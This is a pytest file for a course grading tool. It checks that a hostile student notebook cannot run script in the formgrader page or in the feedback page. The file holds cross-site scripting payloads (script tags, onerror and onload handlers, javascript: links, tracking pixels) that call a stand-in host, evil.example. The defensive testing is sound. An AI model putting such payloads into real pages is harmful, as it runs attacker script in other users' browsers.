"""A person marks in formgrader, and the mark reaches the student; what a student wrote does nothing there."""

from __future__ import annotations

import os
import signal
import subprocess
import sys

import pytest
from nbformat.v4 import new_markdown_cell, new_raw_cell

from tests.conftest import start
from tests.grading.course import ALL, LESSON, Class, before, cell_of, make_course

pytestmark = pytest.mark.timeout(600)
RUN = "fetch('http://evil.example/ran'); document.title = 'taken over'"
SCRIPT = f'<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}">'
ANSWER = f"""\
Density falls where *space* stretches, $a < b$.

{SCRIPT} ![seen](http://evil.example/pixel.png) <img src="//evil.example/pixel.png">
[a link](javascript:{RUN.replace(" ", "")}) \\[b\\](javascript:{RUN.replace(" ", "")})

```mermaid
{SCRIPT}
```"""
SHOWS = f"""\
from IPython.display import HTML, Latex, Markdown, display
words = {SCRIPT!r}
for kind in (HTML, Latex, Markdown):
    display(kind(words))
print(words)"""


def flowcourse(root, *words):
    command = [sys.executable, "-m", "flowlib.course.cli", *words]
    done = subprocess.run(command, cwd=root, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course with one hostile submission, graded by the command into the folder where it puts results."""
    klass = Class(make_course(tmp_path_factory.mktemp("course")))
    broken = f"def affine(z, a, b):\n    raise ValueError({SCRIPT + '</textarea>' + SCRIPT!r})"
    notebook = before(klass.right_notebook(task1=broken, task5=ANSWER), "task2", SHOWS)
    index = notebook["cells"].index(cell_of(notebook, "task2"))
    notebook["cells"][index:index] = [new_raw_cell(SCRIPT), new_markdown_cell(f"$$\n{SCRIPT}\n$$")]
    klass.submitted = klass.root / ".results" / "submitted"
    klass.hand_in("ann", notebook)
    flowcourse(klass.root, "grade", "01")
    return klass.root


@pytest.fixture
def formgrader(graded):
    """The address that `flowcourse formgrader` prints."""
    command = [sys.executable, "-u", "-m", "flowlib.course.cli", "formgrader", "01", "--no-browser"]
    env = os.environ | {"JUPYTER_CONFIG_DIR": str(graded / "home"), "HOME": str(graded)}
    with start([*command, "--port=18970"], cwd=graded, env=env, stdout=subprocess.PIPE, text=True) as process:
        try:
            said = ""
            while "Ctrl-C" not in said:
                line = process.stdout.readline()
                assert line, f"it ended: {said}"
                said += line
            assert "flowcourse feedback 01" in said
            yield next(word for word in said.split() if word.startswith("http"))
        finally:
            process.send_signal(signal.SIGINT)
            process.wait(30)


def test_a_mark_and_a_comment_reach_the_student(page, graded, formgrader):
    path = graded / ".results" / "feedback" / "ann" / LESSON / "exercises.html"
    page.goto(path.as_uri())
    assert "a person marks this (2)" in page.inner_text("body")

    page.goto(formgrader)
    page.locator("td.name a").first.click(timeout=60_000)
    page.wait_for_selector("#task5", timeout=60_000)
    page.wait_for_load_state("load")
    answer = page.locator(".nbgrader_cell", has=page.locator("#task5"))
    assert answer.locator("em").inner_text() == "space" and "$a < b$" in answer.inner_text()
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)  # time for what would run
    assert page.title() != "taken over"
    assert not [address for address in page.requests if "evil.example" in address]
    for link in page.locator("#notebook a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")

    page.locator("#task5").fill("1.5")
    page.locator("#task5-comment").fill("Say why.\n<script>document.title = 'taken over'</script>")
    with page.expect_response(lambda reply: reply.request.method == "PUT"):
        page.locator("#task5").focus()
    page.wait_for_timeout(1000)

    assert "1 of 1 feedback pages changed" in flowcourse(graded, "feedback", "01")
    page.goto(path.as_uri())
    seen = page.inner_text("body")
    assert f"{ALL - 3 + 1.5:g} of {ALL + 2} points." in seen
    assert "1.5 of 2, given by a person" in seen and "Say why." in seen
    assert "a person marks this" not in seen and page.title() == f"{LESSON}: ann"
